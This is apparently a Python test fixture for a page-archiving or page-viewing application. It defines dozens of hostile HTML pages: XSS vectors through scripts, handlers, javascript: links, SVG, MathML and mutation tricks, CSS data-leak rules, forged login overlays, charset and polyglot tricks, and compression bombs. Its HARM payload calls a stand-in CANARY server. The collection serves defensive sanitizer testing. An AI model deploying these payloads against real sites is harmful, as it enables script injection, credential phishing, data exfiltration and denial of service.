"""Pages made to do harm: each tries to run a script, to call out, or to pass for the application.

`CANARY` stands for a server of the test's that must never be called; `HARM` for a script whose
first act would be to rename the page, to set a cookie and to call that server.
"""

from __future__ import annotations

import gzip
from base64 import b64encode

import brotli
import zstandard

HOST = "http://hostile.example/"
HARM = "try{document.title='HARM';top.document.title='HARM'}catch(e){};document.cookie='harm=1';fetch('CANARY/harm');new Image().src='CANARY/harm'"
_CALL = "alert(1);" + HARM
_DATA = "data:text/html;base64," + b64encode(f"<script>{HARM}</script>".encode()).decode()
_SVG = f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"{HARM}\"><script>{HARM}</script></svg>"

PAGES: dict[str, str] = {
    "script-inline": f"<script>{HARM}</script>",
    "script-src": "<script src=/harm.js></script><script src=CANARY/harm.js></script><script type=module src=/harm.js></script>",
    "script-late": f"<p>x</p></body></html><script>{HARM}</script><plaintext><script>{HARM}</script>",
    "script-split": f"<scr<script>ipt>{HARM}</scr</script>ipt><SCRIPT/x>{HARM}</SCRIPT ><script\x0b>{HARM}</script>",
    "handlers": "".join(
        f'<div {name}="{_CALL}" tabindex=1>x</div>'
        for name in (
            "onclick",
            "onmouseover",
            "onfocus",
            "onanimationstart",
            "ontoggle",
            "onpointerenter",
        )
    )
    + f'<img src=x onerror="{HARM}"><body onload="{HARM}" onpageshow="{HARM}" onhashchange="{HARM}">',
    "handlers-autofocus": f'<input autofocus onfocus="{HARM}"><select autofocus onfocus="{HARM}"></select><details open ontoggle="{HARM}">x</details><video autoplay onplay="{HARM}" onerror="{HARM}" src=x></video><audio src=x onerror="{HARM}"></audio><marquee onstart="{HARM}">x</marquee>',
    "animation-event": f'<style>@keyframes k{{from{{color:red}}to{{color:blue}}}} #a{{animation:k 1ms}}</style><p id=a onanimationend="{HARM}" onanimationstart="{HARM}">x</p>',
    "javascript-links": f'<a href="javascript:{HARM}">a</a><a href="java\nscript:{HARM}">b</a><a href=" &#106;avascript:{HARM}">c</a><form action="javascript:{HARM}"><button>d</button></form><a xlink:href="javascript:{HARM}">e</a><button formaction="javascript:{HARM}">f</button>',
    "svg-inline": _SVG
    + f'<svg><a xlink:href="javascript:{HARM}"><text y=20>x</text></a><animate onbegin="{HARM}" attributeName=x dur=1s /><set attributeName=href to="javascript:{HARM}" /><use href="{_DATA}#x"/><image href="CANARY/i.png"/><foreignObject><iframe srcdoc="<script>{HARM}</script>"></iframe></foreignObject></svg>',
    "svg-style": "<svg><style>@import 'CANARY/s.css'; rect{fill:url(CANARY/f.svg#x)}</style><rect width=9 height=9 filter='url(CANARY/f.svg#f)' fill='url(CANARY/f.svg#g)' style='mask:url(CANARY/m.svg)'/></svg>",
    "svg-image": "<img src=/harm.svg><object data=/harm.svg></object><embed src=/harm.svg><iframe src=/harm.svg></iframe>",
    "mathml": f'<math><mi xlink:href="javascript:{HARM}">x</mi><maction actiontype="statusline#CANARY" href="javascript:{HARM}">y</maction><annotation-xml encoding="text/html"><script>{HARM}</script></annotation-xml><mtext><img src=x onerror="{HARM}"></mtext></math>',
    "mutation": f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={HARM!s}&gt;"></table></math><svg></p><style><a id="</style><img src=1 onerror=\'{HARM}\'>"></svg><noscript><p title="</noscript><img src=x onerror=\'{HARM}\'>">',
    "css-import": "<style>@import 'CANARY/a.css'; @import url(CANARY/b.css); @IMPORT URL('CANARY/c.css') screen; @\\69mport 'CANARY/d.css';</style><link rel=stylesheet href=CANARY/e.css><link rel=stylesheet href=/harm.css>",
    "css-url": "<style>body{background:url(CANARY/a)} p{background:u\\72l(CANARY/b)} i{background-image:image-set('CANARY/c' 1x)} b{list-style:url('CANARY/d')} u{cursor:url(CANARY/e),auto} q{content:url(CANARY/f)} s{border-image:url(CANARY/g)} @font-face{font-family:h;src:url(CANARY/h)} *{font-family:h;background:src('CANARY/i')} a{--x:url(CANARY/j);background:var(--x)}</style><p style='background:url(CANARY/k)'>x<i>y</i><b>z</b>",
    "css-script": f'<style>a{{width:expression({HARM});behavior:url(CANARY/x.htc);-moz-binding:url(CANARY/x.xml#a);background:url("javascript:{HARM}")}}</style><a>x</a>',
    "css-breakout": f"<style>a{{content:'</style><script>{HARM}</script>'}}</style><style>a{{content:\"<\\/style><script>{HARM}</script>\"}}</style>",
    "css-attribute-leak": "<style>"
    + "".join(f"input[value^='{one}']{{background:url(CANARY/leak-{one})}}" for one in "abcdefgh")
    + "</style><input value=abc>",
    "meta-refresh": "<meta http-equiv=refresh content='0;url=CANARY/refresh'><meta http-equiv=refresh content='0;url=javascript:1'><meta http-equiv='Set-Cookie' content='harm=1'>",
    "meta-policy": f"<meta http-equiv='Content-Security-Policy' content=\"script-src * 'unsafe-inline'\"><script>{HARM}</script>",
    "base": "<base href='CANARY/'><img src=x.png><link rel=stylesheet href=x.css><base target=_top><a href=y>z</a>",
    "forms": "<form action=CANARY/f method=post id=f><input name=a value=b><button id=b autofocus>go</button></form><form action='/sign-out' method=post><button>x</button></form><input form=f type=image src=CANARY/i><isindex action=CANARY><button form=f formaction=CANARY/g>z</button><script>f.submit()</script>",
    "objects": f"<object data='{_DATA}'></object><embed src='{_DATA}'><object data=CANARY/o></object><embed src=CANARY/e type=application/pdf><applet code=CANARY/a></applet><object classid=clsid:x><param name=src value=CANARY/p></object>",
    "srcdoc": f"<iframe srcdoc=\"<script>{HARM}</script><img src=CANARY/i><iframe srcdoc='&lt;script>parent.parent.document.title=1&lt;/script>'></iframe>\"></iframe><iframe src='javascript:{HARM}'></iframe>",
    "frames": f"<iframe src=CANARY/frame></iframe><iframe src='{_DATA}'></iframe><iframe src='blob:CANARY/x'></iframe><iframe src=/inner.html sandbox='allow-scripts allow-same-origin allow-top-navigation'></iframe><iframe src='about:blank' onload=\"{HARM}\"></iframe>",
    "frameset": f"<frameset cols='*,*' onload=\"{HARM}\"><frame src=CANARY/a><frame src=/inner.html><frame src='javascript:{HARM}'></frameset>",
    "data-documents": f"<a href='{_DATA}' id=a>x</a><img src='data:image/svg+xml,{_SVG.replace('#', '%23')}'><iframe src='data:application/xhtml+xml,<html/>'></iframe><link rel=stylesheet href='data:text/css,@import \"CANARY/d.css\"'><video src='data:text/html,x'></video>",
    "preloads": "".join(
        f"<link rel='{rel}' href=CANARY/{rel} as=image>"
        for rel in (
            "preload",
            "prefetch",
            "preconnect",
            "dns-prefetch",
            "prerender",
            "modulepreload",
            "icon",
            "manifest",
            "alternate stylesheet",
            "apple-touch-icon",
            "import",
        )
    ),
    "speculation": '<script type=speculationrules>{"prefetch":[{"source":"list","urls":["CANARY/s"]}],"prerender":[{"source":"list","urls":["CANARY/t"]}]}</script><a href=CANARY/u ping=CANARY/ping attributionsrc=CANARY/attr>x</a>',
    "beacons": "<img src=CANARY/1><img srcset='CANARY/2 1x, CANARY/3 2x'><picture><source srcset=CANARY/4><img src=CANARY/5></picture><video src=CANARY/6 poster=CANARY/7><source src=CANARY/8><track src=CANARY/9 default></video><audio src=CANARY/10></audio><input type=image src=CANARY/11><body background=CANARY/12><table background=CANARY/13><tr><td background=CANARY/14></table><img longdesc=CANARY/15 lowsrc=CANARY/16 dynsrc=CANARY/17><bgsound src=CANARY/18><image src=CANARY/19>",
    "own-application": "<img src=/sign-out><img src='../../people'><img src='/p/study/items.csv'><link rel=stylesheet href='/static/site.css'><iframe src='/p/study/'></iframe><form action='/p/study/bulk' method=post></form><img src='http://127.0.0.1/p/study/'>",
    "workers": f"<script>navigator.serviceWorker.register('/harm.js');new Worker('/harm.js');new WebSocket('ws://127.0.0.1:1');new EventSource('CANARY/e');navigator.sendBeacon('CANARY/b');new RTCPeerConnection();{HARM}</script>",
    "popups": f"<a href=CANARY/p target=_blank id=a>x</a><a href=CANARY/d download>y</a><script>window.open('CANARY/w');{HARM}</script><meta http-equiv=refresh content='0;url=CANARY/r'>",
    "opener": f"<script>opener&&(opener.document.title='HARM');parent.postMessage('x','*');top.location='CANARY/t';{HARM}</script><a target=_top href=CANARY/u>x</a>",
    "clobbering": "<form id=documentElement><input name=cookie></form><img name=title id=title><img name=body><a id=location href=CANARY/l></a><a id=defaultView name=x></a><form name=getElementById></form><iframe name=top></iframe>",
    "cookie-bomb": f"<script>for(let i=0;i<200;i++)document.cookie='b'+i+'='+'x'.repeat(4000);{HARM}</script>",
    "templates": f"<template><script>{HARM}</script><img src=CANARY/t></template><div><template shadowrootmode=open><script>{HARM}</script><img src=CANARY/s></template></div><xmp><script>{HARM}</script></xmp><noembed><img src=CANARY/n></noembed><noframes><img src=CANARY/f></noframes>",
    "custom-elements": f'<x-a onclick="{HARM}" style=\'background:url(CANARY/c)\'><x-b src=CANARY/d></x-b></x-a><portal src=CANARY/p></portal><fencedframe src=CANARY/q></fencedframe><geolocation></geolocation><slot name=x onslotchange="{HARM}"></slot>',
    "comments": f"<!--><script>{HARM}</script>--><!--[if IE]><script>{HARM}</script><![endif]--><![CDATA[<script>{HARM}</script>]]><?xml-stylesheet href='CANARY/x.css'?><!doctype x SYSTEM 'CANARY/x.dtd' [<!ENTITY e SYSTEM 'CANARY/e'>]>&e;",
    "quotes": f'<img src="x" alt="`><script>{HARM}</script>"><img alt=\'"><script>{HARM}</script>\'><div title="&quot;><script>{HARM}</script>">x</div><textarea></textarea><script>{HARM}</script></textarea><title></title><script>{HARM}</script></title>',
    "bidi-title": "<title>\u202egnp.x\u202c\u2066 safe \u202e}</title><h1>\u202eevil\u202c</h1>",
    "title-markup": f"<title></title><title><script>{HARM}</script>\"'><img src=CANARY/t></title><h1>x</h1>",
    "badge-imitation": "<style>*{margin:0}.frame{position:fixed;inset:0;z-index:2147483647;background:#fff}.plate{background:#3b4a52;color:#fff}</style><div class=frame><div class=plate><strong>Archived page</strong> 2020-01-01 complete import your mark ◆ ● ▲ ★ ■</div><form action=CANARY/login><label>Password<input type=password name=p></label><button>Sign in</button></form></div>",
    "deep": "<div>" * 60_000 + "deep",
    "deep-formatting": "".join(f"<b id=b{n}>" for n in range(30_000)) + "x",
    "many-attributes": "<p " + " ".join(f"a{n}=1" for n in range(100_000)) + ">x",
    "huge": "<p class=a>x <b>y</b></p>" * 40_000,
    "huge-line": "x" * 3_000_000,
    "css-deep": "<style>" + "a{" * 60_000 + "</style><style>" + "url(" * 60_000 + "</style>x",
    "entities": "&lt;script&gt;" * 1000 + "&#0;&#xD800;&#x110000;&" + "amp;" * 1000,
    "nulls": f'<scr\0ipt>{HARM}</scr\0ipt><img src=x on\0error="{HARM}"><a href="java\0script:{HARM}">x</a>',
}
"""Pages in UTF-8, served as text/html."""

_LONG = b"<p>" * 35_000_000  # more than is ever unpacked for showing
_UTF7 = "+ADw-script+AD4-" + HARM + "+ADw-/script+AD4-"
ODD: dict[str, tuple[str, bytes, str]] = {
    "utf7": ("text/html; charset=utf-7", _UTF7.encode(), ""),
    "utf16": (
        "text/html; charset=utf-16le",
        b"\xff\xfe" + f"<script>{HARM}</script>".encode("utf-16-le"),
        "",
    ),
    "utf16-lie": (
        "text/html; charset=utf-8",
        b"\xfe\xff" + f"<script>{HARM}</script>".encode("utf-16-be"),
        "",
    ),
    "bom-in-bom": (
        "text/html; charset=shift_jis",
        b"\xef\xbb\xbf\xff\xfe" + f"<script>{HARM}</script>".encode(),
        "",
    ),
    "iso-2022": (
        "text/html; charset=iso-2022-jp",
        b'\x1b$B<img alt="\x1b(B" src=x onerror="' + HARM.encode() + b'">',
        "",
    ),
    "hz": (
        "text/html; charset=hz-gb-2312",
        b"~{<script>~}" + f"<script>{HARM}</script>".encode(),
        "",
    ),
    "charset-nonsense": (
        'text/html; charset="Big5_Solaris<script>"',
        f"<script>{HARM}</script>".encode(),
        "",
    ),
    "xhtml": (
        "application/xhtml+xml",
        f"<html xmlns='http://www.w3.org/1999/xhtml'><script>//<![CDATA[\n{HARM}//]]></script><body onload=\"{HARM}\"/></html>".encode(),
        "",
    ),
    "polyglot-gif": ("text/html", b'GIF89a/*<svg/onload="' + HARM.encode() + b'">*/=1//', ""),
    "headers": (
        "text/html",
        b"<p>x",
        'Refresh: 0;url=CANARY/refresh\r\nLink: <CANARY/link.css>; rel=stylesheet, <CANARY/pre>; rel=preload; as=image\r\nSet-Cookie: harm=1\r\nContent-Security-Policy: script-src *\r\nSourceMap: CANARY/map\r\nReporting-Endpoints: a="CANARY/report"\r\nNEL: {"report_to":"a","max_age":1}\r\nClear-Site-Data: "cookies"\r\n',
    ),
    "bomb-gzip": ("text/html", gzip.compress(_LONG, 1), "Content-Encoding: gzip\r\n"),
    "bomb-br": ("text/html", brotli.compress(_LONG, quality=1), "Content-Encoding: br\r\n"),
    "bomb-zstd": ("text/html", zstandard.compress(_LONG, 1), "Content-Encoding: zstd\r\n"),
    "bomb-nested": (
        "text/html",
        gzip.compress(gzip.compress(_LONG, 1), 1),
        "Content-Encoding: gzip, gzip\r\n",
    ),
    "bomb-headers": ("text/html", b"<p>x", "X-Bomb: " + "y" * 60_000 + "\r\n"),
}
"""Type, body and further headers of pages that lie about what they are."""

PARTS: dict[str, tuple[str, str]] = {
    "harm.js": ("text/javascript", HARM),
    "harm.svg": ("image/svg+xml", _SVG),
    "harm.css": ("text/css", "@import 'CANARY/x.css'; *{background:url(CANARY/y)}"),
    "inner.html": (
        "text/html",
        f"<script>{HARM}</script><img src=CANARY/inner><meta http-equiv=refresh content='0;url=CANARY/z'><p>inner",
    ),
    "wrong.png": ("image/png", f"<html><script>{HARM}</script>"),
    "page.css": ("text/css", f"<html><script>{HARM}</script>"),
}
"""What the pages refer to."""
